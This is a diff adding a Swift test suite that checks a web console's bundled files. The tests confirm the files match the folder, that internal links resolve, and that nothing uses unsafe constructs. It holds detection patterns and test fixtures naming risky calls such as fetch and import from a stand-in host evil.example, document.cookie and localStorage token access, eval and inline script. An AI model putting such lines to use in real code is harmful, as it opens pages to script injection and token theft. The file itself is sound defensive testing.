@@ -1,0 +1,89 @@
+import Console
+import Foundation
+import Testing
+
+@Suite("The console's files")
+struct ConsoleSourceTests {
+    private static let folder = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../../Console/App")
+        .standardizedFileURL.path
+
+    @Test("the program carries every file of the folder as it stands there, and no other")
+    func whole() throws {
+        let names = try FileManager.default.subpathsOfDirectory(atPath: Self.folder).filter { !URL(filePath: $0).pathExtension.isEmpty }
+        #expect(Set(names) == Set(ConsoleFile.all.map(\.path)) && names.count == ConsoleFile.all.count)
+        for file in ConsoleFile.all {
+            #expect(FileManager.default.contents(atPath: "\(Self.folder)/\(file.path)") == Data(file.bytes), "\(file.path)")
+        }
+    }
+
+    @Test("whatever a page, a style or a module names is there")
+    func references() throws {
+        let paths = Set(ConsoleFile.all.map(\.path) + [""])
+        var found = 0
+        for file in ConsoleFile.all {
+            for name in Self.references(in: file) {
+                found += 1
+                let base = URL(string: "http://here/console/\(file.path)")!
+                let path = try #require(URL(string: name, relativeTo: base)?.absoluteURL.path)
+                #expect(path.hasPrefix("/console") && paths.contains(String(path.dropFirst("/console/".count))), "\(file.path): \(name)")
+            }
+        }
+        #expect(found > 60)
+    }
+
+    private static func references(in file: ConsoleFile) -> [String] {
+        let text = String(decoding: file.bytes, as: UTF8.self)
+        switch URL(filePath: file.path).pathExtension {
+        case "html": return text.matches(of: /(?:src|href)="([^"#]+)"/).map { String($0.1) }
+        case "js": return text.matches(of: /\bfrom "([^"]+)"|\bimport\("?([^)"]+)/).map { String($0.1 ?? $0.2 ?? "") }
+        case "css": return text.matches(of: /url\(([^)]+)\)|@import ([^;]+)/).map { String($0.1 ?? $0.2 ?? "") }
+        default: return []
+        }
+    }
+
+    @Test("nothing is made of text but text: no markup, no evaluation, no inline handler or style, no storage, no other server")
+    func nothingForbidden() {
+        for file in ConsoleFile.all {
+            #expect(Self.faults(in: String(decoding: file.bytes, as: UTF8.self), path: file.path) == [], "\(file.path)")
+        }
+    }
+
+    @Test(
+        "each of these would be found",
+        arguments: [
+            ("a.js", "node.innerHTML = text"), ("a.js", "node.outerHTML"), ("a.js", "node.insertAdjacentHTML('x', y)"),
+            ("a.js", "document.write(x)"),
+            ("a.js", "eval(x)"), ("a.js", "new Function(x)"), ("a.js", "setTimeout(\"x()\", 1)"),
+            ("a.js", "range.createContextualFragment(x)"),
+            ("a.js", "new DOMParser()"), ("a.js", "node.setHTMLUnsafe(x)"), ("a.js", "node.srcdoc = x"), ("a.js", "localStorage.token = x"),
+            ("a.js", "sessionStorage.x"), ("a.js", "document.cookie"), ("a.js", "fetch('https://evil.example')"),
+            ("a.js", "`//evil.example/x`"),
+            ("a.js", "import \"http://evil.example/x.js\""), ("a.js", "link.href = 'javascript:x'"), ("a.html", "<p onclick=\"x\">"),
+            ("a.html", "<p style=\"x\">"), ("a.html", "<script>x</script>"), ("a.html", "<style>x</style>"),
+            ("a.svg", "<svg><script/></svg>"),
+            ("a.css", "url(https://evil.example/x)"), ("a.js", "node.setAttribute(\"style\", x)"),
+        ])
+    func aFault(_ path: String, _ text: String) {
+        #expect(Self.faults(in: text, path: path) != [])
+    }
+
+    private static func faults(in text: String, path: String) -> [String] {
+        // A name of a kind of element, not an address that anything is fetched from.
+        let text = text.replacing("http://www.w3.org/2000/svg", with: "")
+        var patterns = [
+            #"https?:|["'`(]//|javascript:|data:text"#
+        ]
+        switch URL(filePath: path).pathExtension {
+        case "js":
+            patterns += [
+                #"innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|DOMParser|HTMLUnsafe|srcdoc|document\.write"#,
+                #"\beval\b|\bFunction\(|set(Timeout|Interval)\(\s*["'`]"#,
+                #"localStorage|sessionStorage|indexedDB|document\.cookie"#,
+                #"setAttribute\(\s*["'`](style|on)"#,
+            ]
+        case "css": break
+        default: patterns += [#"\son[a-z]+\s*="#, #"\sstyle\s*="#, #"<style"#, #"<script(?![^>]*\ssrc=)"#]
+        }
+        return patterns.filter { text.range(of: $0, options: .regularExpression) != nil }
+    }
+}
